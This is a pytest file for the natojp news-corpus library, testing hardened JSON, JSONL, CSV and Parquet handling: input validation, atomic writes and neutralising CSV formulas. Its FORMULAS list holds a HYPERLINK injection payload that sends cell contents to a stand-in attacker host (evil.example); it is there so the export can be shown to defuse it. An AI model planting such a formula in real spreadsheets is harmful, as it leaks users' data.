"""Hardening of reading, writing and querying: each test is an input from the
"Hardening" issue that used to escape as a bare Python error, write NaN, leave
half a file behind or put a live formula in a CSV cell."""

from __future__ import annotations

import csv
import datetime
import errno
import io
import json
import math
import os
import signal
import stat
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import attrs
import pytest

import natojp
from natojp import loads, read_jsonl, serialize
from natojp.cli import main
from natojp.errors import DecodeError, NatojpError, QueryError, SchemaError
from natojp.models import Document, PartialDate, PersonMention, Span
from natojp.serialize import dump_jsonl, dumps, loads_document, to_dict

# --- helpers ---------------------------------------------------------------------------


def jsonl(documents: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(d, ensure_ascii=False) + "\n" for d in documents)


def dated(corpus: natojp.Corpus, date: str) -> Document:
    """The op-ed, re-dated to ``date`` as a JSON Lines file would have it."""
    data = to_dict(corpus["2022-06-30-nikkei-op-ed"])
    data["date"], data["event_date"] = date, None
    return read_jsonl(io.StringIO(jsonl([data])))[0]


def files_in(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


@pytest.fixture
def old_file(tmp_path: Path) -> Path:
    path = tmp_path / "out.jsonl"
    path.write_bytes(b'{"the": "old file"}\n')
    return path


# --- queries: bad arguments and deep nesting are QueryErrors -------------------------


def test_search_nested_1200_deep_is_a_query_error(corpus: natojp.Corpus) -> None:
    with pytest.raises(QueryError, match="nests too deeply"):
        corpus.search("(" * 1200 + "Kishida" + ")" * 1200)
    # 30 levels still search, and mean what the word alone means.
    nested = corpus.search("(" * 30 + "Kishida" + ")" * 30)
    assert [h.document_id for h in nested] == [h.document_id for h in corpus.search("Kishida")]


def test_long_chains_of_terms_are_no_deeper_than_one(corpus: natojp.Corpus) -> None:
    # Thousands of terms used to build a tree thousands deep (RecursionError).
    assert {h.document_id for h in corpus.search(" ".join(["Kishida"] * 3000))} == {
        h.document_id for h in corpus.search("Kishida")
    }
    either = corpus.search(" OR ".join(["Kishida", "Yoon"] * 1500), limit=None)
    assert {h.document_id for h in either} == {
        h.document_id for h in corpus.search("Kishida OR Yoon", limit=None)
    }
    assert corpus.search(" NOT ".join(["Kishida"] * 3000)) == ()


@pytest.mark.parametrize("limit", [1.5, -1, 0, "3", True, float("nan")])
def test_search_limit_must_be_a_whole_number(corpus: natojp.Corpus, limit: Any) -> None:
    with pytest.raises(QueryError, match=r"limit= is a whole number"):
        corpus.search("NATO", limit=limit)


def test_search_limit_beyond_any_index_means_all(corpus: natojp.Corpus) -> None:
    assert corpus.search("NATO", limit=10**30) == corpus.search("NATO", limit=None)


def test_search_query_must_be_text(corpus: natojp.Corpus) -> None:
    with pytest.raises(QueryError, match="query is a string, not int"):
        corpus.search(123)  # type: ignore[arg-type]


@pytest.mark.parametrize("window", [1.5, -1, "3", True])
def test_kwic_window_must_be_a_whole_number(corpus: natojp.Corpus, window: Any) -> None:
    with pytest.raises(QueryError, match=r"window= is a whole number"):
        corpus.kwic("NATO", window=window)


def test_kwic_window_beyond_any_text_means_every_word(corpus: natojp.Corpus) -> None:
    line = corpus.kwic("watching closely", window=10**30)[0]
    text = corpus[line.document_id].text
    assert line.left == " ".join(text[: line.span.start].split())


@pytest.mark.parametrize("timeout", [0, -1, "3", True, float("nan"), float("inf")])
def test_kwic_timeout_must_be_seconds(corpus: natojp.Corpus, timeout: Any) -> None:
    with pytest.raises(QueryError, match=r"timeout= is a number of seconds"):
        corpus.kwic("NATO", regex=True, timeout=timeout)


@pytest.mark.parametrize("min_words", [1.5, "3", True])
def test_shared_passages_min_words_must_be_a_whole_number(
    corpus: natojp.Corpus, min_words: Any
) -> None:
    with pytest.raises(QueryError, match=r"min_words= is a whole number, 2 or more"):
        corpus.shared_passages(min_words=min_words)
    with pytest.raises(QueryError, match="min_words is at least 2, not 1"):
        corpus.shared_passages(min_words=1)
    assert corpus.shared_passages(min_words=10**30) == ()


def test_between_a_bare_number_is_a_query_error(corpus: natojp.Corpus) -> None:
    with pytest.raises(QueryError, match="not int"):
        corpus.between(2023)  # type: ignore[arg-type]


# --- reading JSON: only natojp errors, with where they are ---------------------------


def test_loads_of_bytes_that_are_not_utf8_is_a_decode_error_at_the_byte() -> None:
    raw = b'{"schema_version": 1, "title": "caf\xe9"}'
    with pytest.raises(DecodeError) as caught:
        loads(raw)
    assert caught.value.offset == raw.index(b"\xe9") and caught.value.line == 1
    assert isinstance(caught.value, NatojpError)


def test_loads_still_reads_utf16_bytes(corpus: natojp.Corpus) -> None:
    # JSON's own encoding detection, as json.loads does it, is kept.
    assert loads_document(dumps(corpus[0]).encode("utf-16")) == corpus[0]
    assert loads(dumps(corpus[0]).encode("utf-16")) == corpus[:1]


def test_deeply_nested_json_is_a_schema_error_where_it_gets_too_deep() -> None:
    with pytest.raises(SchemaError, match="nest too deeply") as caught:
        loads("[" * 100_000)
    # The 65th "[" is the first one deeper than the 64 levels natojp reads.
    assert (caught.value.line, caught.value.column) == (1, 65)
    # Brackets inside a string (and an escaped quotation mark) are not nesting.
    text = '["' + "[" * 100 + '\\"", ' + "[" * 100_000
    with pytest.raises(SchemaError, match="nest too deeply") as caught:
        loads(text)
    # The outer "[" is level 1, so level 65 is the 64th "[" after the string.
    assert caught.value.column == text.index(", ") + 2 + 64


def test_deeply_nested_jsonl_line_names_its_line(corpus: natojp.Corpus) -> None:
    text = jsonl([to_dict(corpus[0])]) + "[" * 100_000 + "\n"
    with pytest.raises(SchemaError, match="nest too deeply") as caught:
        read_jsonl(io.StringIO(text))
    assert caught.value.line == 2
    lenient = read_jsonl(io.StringIO(text), strict=False)
    assert lenient.ids == (corpus[0].id,)
    assert lenient.report is not None and [f.line for f in lenient.report.failures] == [2]


def test_an_integer_over_4300_digits_is_a_schema_error_at_the_number() -> None:
    text = '{"schema_version": 1,\n "n": ' + "7" * 4301 + "}"
    with pytest.raises(SchemaError, match="4301 digits") as caught:
        loads(text)
    assert (caught.value.line, caught.value.column) == (2, 7)
    with pytest.raises(SchemaError, match="4301 digits") as caught:
        read_jsonl(io.StringIO('{"n": ' + "7" * 4301 + "}\n"))
    assert caught.value.line == 1


def test_duplicate_ids_in_a_json_corpus_are_a_schema_error_at_the_second(
    corpus: natojp.Corpus,
) -> None:
    documents = [to_dict(d) for d in corpus] + [to_dict(corpus[1])]
    with pytest.raises(SchemaError, match="already the id of") as caught:
        loads(json.dumps({"schema_version": 1, "documents": documents}))
    assert caught.value.json_path == "$.documents[5].id"
    assert corpus[1].id in str(caught.value) and "$.documents[1]" in str(caught.value)


def test_duplicate_ids_in_jsonl_strict_and_lenient(corpus: natojp.Corpus, tmp_path: Path) -> None:
    path = tmp_path / "twice.jsonl"
    path.write_text(jsonl([to_dict(d) for d in corpus] + [to_dict(corpus[1])]), encoding="utf-8")
    with pytest.raises(SchemaError, match="already the id of line 2") as caught:
        read_jsonl(path)
    assert (caught.value.path, caught.value.line, caught.value.json_path) == (str(path), 6, "$.id")
    with pytest.raises(SchemaError):
        natojp.Corpus.from_jsonl(path)
    lenient = read_jsonl(path, strict=False)
    assert lenient.ids == corpus.ids  # the first of the two stays
    assert lenient.report is not None
    assert [(f.line, f.error) for f in lenient.report.failures] == [(6, "SchemaError")]


def test_a_text_stream_that_cannot_decode_is_a_decode_error_with_its_line(
    corpus: natojp.Corpus,
) -> None:
    raw = jsonl([to_dict(corpus[0])]).encode() + b'{"title": "caf\xe9"}\n'
    stream = io.TextIOWrapper(io.BytesIO(raw), encoding="utf-8")
    # The stream decodes a block at a time: the bad byte is in the first block,
    # before any line is read, and no line after it can be.
    with pytest.raises(DecodeError, match="not utf-8 text"):
        read_jsonl(stream)
    stream = io.TextIOWrapper(io.BytesIO(raw), encoding="utf-8")
    lenient = read_jsonl(stream, strict=False)
    assert lenient.report is not None and lenient.report.failures[0].error == "DecodeError"


@pytest.mark.parametrize("written", ["NaN", "Infinity", "-Infinity", "1e400"])
def test_reading_nan_or_infinity_is_a_schema_error_at_the_field(
    corpus: natojp.Corpus, written: str
) -> None:
    text = json.dumps(to_dict(corpus["2023-01-31-tokyo-news-release"]))
    at = text.index('"confidence": ') + len('"confidence": ')
    text = text[:at] + written + text[text.index(",", at) :]
    with pytest.raises(SchemaError, match="is not a JSON number") as caught:
        read_jsonl(io.StringIO(text + "\n"))
    assert (caught.value.line, caught.value.json_path) == (1, "$.mentions[0].confidence")
    with pytest.raises(SchemaError):
        loads(text)


def test_a_season_running_past_year_9999_ends_on_the_last_day_there_is(
    corpus: natojp.Corpus,
) -> None:
    # Winter 9999 is December 9999 to February 10000; datetime stops at 9999-12-31.
    date = PartialDate.fromisoformat("9999-24")
    assert (date.start, date.end) == (datetime.date(9999, 12, 1), datetime.date.max)
    doc = dated(corpus, "9999-24")
    one = natojp.Corpus([doc])
    assert one.between("9999").ids == one.between("2020").ids == (doc.id,)
    assert one.between(None, "9998-12-31").ids == ()
    row = one.to_records()[0]
    assert (row["date"], row["date_start"], row["date_end"]) == (
        "9999-24",
        "9999-12-01",
        "9999-12-31",
    )
    assert one.timeline("year") == ((date, 1),)  # a season counts under itself


def test_people_are_found_in_a_document_dated_winter_9999(corpus: natojp.Corpus) -> None:
    doc = dated(corpus, "9999-24")
    found = natojp.Corpus([doc]).annotate()[0]
    # Stoltenberg wrote the op-ed; he is found whatever the date.
    assert "jens-stoltenberg" in {m.person_id for m in found.mentions}


# --- writing JSON: never NaN, a file whole or not at all -----------------------------


def with_confidence(doc: Document, value: float) -> Document:
    mention = PersonMention(span=Span(0, 4), person_id=None, confidence=value)
    return attrs.evolve(doc, mentions=(*doc.mentions, mention))


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
def test_dumps_refuses_a_non_finite_confidence_naming_it(
    corpus: natojp.Corpus, value: float
) -> None:
    doc = with_confidence(corpus[0], value)
    where = f"$.mentions[{len(doc.mentions) - 1}].confidence"
    with pytest.raises(SchemaError, match="is not a JSON number") as caught:
        dumps(doc)
    assert caught.value.json_path == where
    with pytest.raises(SchemaError) as caught:
        dumps(natojp.Corpus([corpus[1], doc]))
    assert caught.value.json_path == "$.documents[1]" + where[1:]


def test_dumps_refuses_non_finite_metadata_and_integers_too_long(corpus: natojp.Corpus) -> None:
    with pytest.raises(SchemaError) as caught:
        dumps(attrs.evolve(corpus[0], metadata={"fine": 1.5, "score": math.inf}))
    assert caught.value.json_path == "$.metadata.score"
    with pytest.raises(SchemaError, match="more than 4300 digits") as caught:
        dumps(attrs.evolve(corpus[0], metadata={"big number": 10**5000}))
    assert caught.value.json_path == '$.metadata["big number"]'


def test_finite_floats_round_trip_exactly(corpus: natojp.Corpus) -> None:
    values = {"tiny": 5e-324, "huge": 1.7976931348623157e308, "neg_zero": -0.0, "third": 1 / 3}
    doc = with_confidence(attrs.evolve(corpus[0], metadata=values), 0.1 + 0.2)
    again = loads_document(dumps(doc))
    assert again == doc and again.mentions[-1].confidence == 0.1 + 0.2
    assert math.copysign(1, again.metadata["neg_zero"]) == -1  # type: ignore[arg-type]
    buffer = io.StringIO()
    dump_jsonl([doc], buffer)
    assert list(serialize.iter_jsonl(io.StringIO(buffer.getvalue()))) == [doc]


def test_a_lone_surrogate_is_a_schema_error_not_half_a_file(
    corpus: natojp.Corpus, old_file: Path
) -> None:
    before = old_file.read_bytes()
    bad = attrs.evolve(corpus[2], title="broken \ud800 title")
    with pytest.raises(SchemaError, match="lone surrogate") as caught:
        dump_jsonl([corpus[0], corpus[1], bad], old_file)
    assert caught.value.json_path == "$.title" and bad.id in str(caught.value)
    assert old_file.read_bytes() == before and files_in(old_file.parent) == ["out.jsonl"]


def fail_on_third(monkeypatch: pytest.MonkeyPatch, module: Any, name: str) -> None:
    """Make ``module.name`` raise on its third call."""
    real, calls = getattr(module, name), []

    def flaky(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) == 3:
            raise RuntimeError("the third document cannot be written")
        return real(*args, **kwargs)

    monkeypatch.setattr(module, name, flaky)


def test_a_bad_third_document_leaves_the_old_jsonl_byte_identical(
    corpus: natojp.Corpus, old_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = old_file.read_bytes()
    fail_on_third(monkeypatch, serialize._json, "to_dict")
    with pytest.raises(RuntimeError, match="third document"):
        corpus.to_jsonl(old_file)
    assert old_file.read_bytes() == before
    assert files_in(old_file.parent) == ["out.jsonl"]  # no temporary file left


def test_a_bad_third_document_leaves_no_file_where_there_was_none(
    corpus: natojp.Corpus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fail_on_third(monkeypatch, serialize._json, "to_dict")
    with pytest.raises(RuntimeError):
        dump_jsonl(corpus, tmp_path / "new.jsonl")
    assert files_in(tmp_path) == []


class FullDisk:
    """A file whose writes fail with ENOSPC after the first, as on a full disk."""

    def __init__(self, real: Any) -> None:
        self.real, self.writes = real, 0

    def write(self, data: Any) -> int:
        self.writes += 1
        if self.writes > 1:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return int(self.real.write(data))

    def __getattr__(self, name: str) -> Any:
        return getattr(self.real, name)

    def __enter__(self) -> FullDisk:
        return self

    def __exit__(self, *exc: object) -> None:
        self.real.close()


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    from natojp import _atomic

    real_open = _atomic._open
    monkeypatch.setattr(_atomic, "_open", lambda *args: FullDisk(real_open(*args)))


@pytest.mark.usefixtures("full_disk")
def test_a_full_disk_names_the_file_and_leaves_the_old_one(
    corpus: natojp.Corpus, old_file: Path
) -> None:
    before = old_file.read_bytes()
    with pytest.raises(OSError) as caught:
        corpus.to_jsonl(old_file)
    assert caught.value.errno == errno.ENOSPC
    assert caught.value.filename == str(old_file) and str(old_file) in str(caught.value)
    assert old_file.read_bytes() == before and files_in(old_file.parent) == ["out.jsonl"]


def test_cli_load_output_is_whole_or_not_at_all(
    tmp_path: Path, old_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    for name in ("a", "b", "c"):
        (folder / f"{name}.txt").write_text(f"Talks {name}\n\nThe ministers met.\n")
    before = old_file.read_bytes()
    fail_on_third(monkeypatch, serialize._json, "to_dict")
    assert main(["load", str(folder), "-o", str(old_file)], out=io.StringIO()) == 2
    assert old_file.read_bytes() == before and sorted(files_in(tmp_path)) == ["mine", "out.jsonl"]
    monkeypatch.undo()
    assert main(["load", str(folder), "-o", str(old_file)], out=io.StringIO()) == 0
    assert len(old_file.read_text().splitlines()) == 3


SLOW_WRITER = textwrap.dedent(
    """
    import sys, time
    import natojp
    from natojp.serialize import dump_jsonl

    def slowly():
        for number, doc in enumerate(natojp.load_corpus()):
            if number == 2:
                print("halfway", flush=True)
                time.sleep(60)
            yield doc

    dump_jsonl(slowly(), sys.argv[1])
    """
)


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="no SIGKILL on this system")
def test_sigkill_mid_write_leaves_the_old_file(old_file: Path) -> None:
    before = old_file.read_bytes()
    child = subprocess.Popen(
        [sys.executable, "-c", SLOW_WRITER, str(old_file)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert child.stdout is not None and child.stdout.readline() == "halfway\n"
        # Two documents are written, to a temporary file beside the target.
        (temp,) = [p for p in old_file.parent.iterdir() if p.name != "out.jsonl"]
        assert temp.name.startswith(".out.jsonl.") and temp.stat().st_size > 0
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
        if child.stdout is not None:
            child.stdout.close()
    assert child.returncode == -signal.SIGKILL
    assert old_file.read_bytes() == before


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_a_replaced_file_keeps_its_permissions_and_a_new_one_gets_the_usual(
    corpus: natojp.Corpus, old_file: Path, tmp_path: Path
) -> None:
    old_file.chmod(0o640)
    corpus.to_jsonl(old_file)
    assert stat.S_IMODE(old_file.stat().st_mode) == 0o640
    umask = os.umask(0)
    os.umask(umask)
    new = tmp_path / "new.jsonl"
    corpus.to_jsonl(new)
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask


@pytest.mark.skipif(os.name != "posix", reason="symbolic links and /dev/null")
def test_links_and_devices_are_written_through(corpus: natojp.Corpus, tmp_path: Path) -> None:
    real = tmp_path / "real.jsonl"
    real.write_text("old\n")
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    corpus.to_jsonl(link)
    assert link.is_symlink() and natojp.Corpus.from_jsonl(real) == corpus
    assert corpus.to_jsonl(os.devnull) == len(corpus)
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_a_folder_or_a_missing_folder_is_an_oserror_naming_the_target(
    corpus: natojp.Corpus, tmp_path: Path
) -> None:
    with pytest.raises(IsADirectoryError) as caught:
        corpus.to_jsonl(tmp_path)
    assert caught.value.filename == str(tmp_path)
    missing = tmp_path / "no" / "such" / "out.jsonl"
    with pytest.raises(FileNotFoundError) as caught:
        corpus.to_jsonl(missing)
    assert caught.value.filename == str(missing)


# --- CSV, Parquet and pandas: whole files, no formulas, dates to 9999 ----------------


def test_a_season_past_9999_exports_to_csv_pandas_and_arrow(corpus: natojp.Corpus) -> None:
    one = natojp.Corpus([dated(corpus, "9999-24")])
    buffer = io.StringIO()
    one.to_csv(buffer)
    (row,) = csv.DictReader(io.StringIO(buffer.getvalue()))
    assert (row["date_start"], row["date_end"]) == ("9999-12-01", "9999-12-31")
    pytest.importorskip("pandas")
    frame = one.to_pandas()
    assert frame["date_end"][0].to_pydatetime().date() == datetime.date(9999, 12, 31)
    pytest.importorskip("pyarrow")
    assert one.to_arrow().column("date_end")[0].as_py() == datetime.date(9999, 12, 31)


def test_csv_refuses_nan_metadata_and_arrow_keeps_it(corpus: natojp.Corpus) -> None:
    one = natojp.Corpus([attrs.evolve(corpus[0], metadata={"score": math.nan})])
    with pytest.raises(SchemaError, match="is not a JSON number") as caught:
        one.to_csv(io.StringIO())
    assert caught.value.json_path == '$.metadata["score"]'
    pytest.importorskip("pyarrow")
    # Arrow has NaN, and metadata is a typed struct there, not JSON text
    score = one.to_arrow().to_pylist()[0]["metadata"]["score"]
    assert math.isnan(score)


def test_a_bad_third_row_leaves_the_old_csv(
    corpus: natojp.Corpus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from natojp.corpus import _export

    path = tmp_path / "out.csv"
    path.write_bytes(b"old,csv\r\n")
    fail_on_third(monkeypatch, _export, "csv_cell")
    with pytest.raises(RuntimeError):
        corpus.to_csv(path)
    assert path.read_bytes() == b"old,csv\r\n" and files_in(tmp_path) == ["out.csv"]


def test_a_failing_parquet_writer_leaves_the_old_file(
    corpus: natojp.Corpus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    def half(table: Any, where: Any, **kwargs: Any) -> None:
        where.write(b"PAR1 and then nothing")
        raise OSError(errno.EIO, "Input/output error")

    path = tmp_path / "out.parquet"
    path.write_bytes(b"old parquet")
    monkeypatch.setattr(pq, "write_table", half)
    with pytest.raises(OSError, match=r"out\.parquet"):
        corpus.to_parquet(path)
    assert path.read_bytes() == b"old parquet" and files_in(tmp_path) == ["out.parquet"]


@pytest.mark.usefixtures("full_disk")
def test_cli_export_on_a_full_disk_says_which_file(
    old_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = old_file.read_bytes()
    assert main(["export", "-o", str(old_file)]) == 1
    err = capsys.readouterr().err
    assert str(old_file) in err and "No space left on device" in err
    assert old_file.read_bytes() == before and files_in(old_file.parent) == ["out.jsonl"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "-2+3",
    "+1",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def formula_corpus(corpus: natojp.Corpus) -> natojp.Corpus:
    docs = [attrs.evolve(corpus[i], title=title) for i, title in enumerate(FORMULAS[:5])]
    docs.append(attrs.evolve(corpus[0], id="sixth", title=FORMULAS[5], authors=("=1+1", "Ann")))
    docs.append(attrs.evolve(corpus[1], id="seventh", title="a = b - c"))
    return natojp.Corpus(docs)


def test_csv_cells_that_would_be_formulas_start_with_a_quote(corpus: natojp.Corpus) -> None:
    buffer = io.StringIO()
    formula_corpus(corpus).to_csv(buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [r["title"] for r in rows] == ["'" + title for title in FORMULAS] + ["a = b - c"]
    assert rows[5]["authors"] == "'=1+1; Ann"
    # Nothing else changes: ids, dates and counts are as the records have them.
    records = formula_corpus(corpus).to_records()
    assert [r["id"] for r in rows] == [r["id"] for r in records]
    assert [r["date_start"] for r in rows] == [r["date_start"] or "" for r in records]


def test_cli_csv_export_neutralises_formulas_to_stdout_and_file(
    corpus: natojp.Corpus, tmp_path: Path
) -> None:
    source = tmp_path / "formulas.jsonl"
    formula_corpus(corpus).to_jsonl(source)
    out = io.StringIO()
    assert main(["export", "--format", "csv", "--corpus", str(source)], out=out) == 0
    target = tmp_path / "out.csv"
    assert main(["export", "--format", "csv", "--corpus", str(source), "-o", str(target)]) == 0
    for text in (out.getvalue(), target.read_text(encoding="utf-8")):
        titles = [r["title"] for r in csv.DictReader(io.StringIO(text))]
        assert titles[:2] == ["'" + FORMULAS[0], "'-2+3"]
        assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
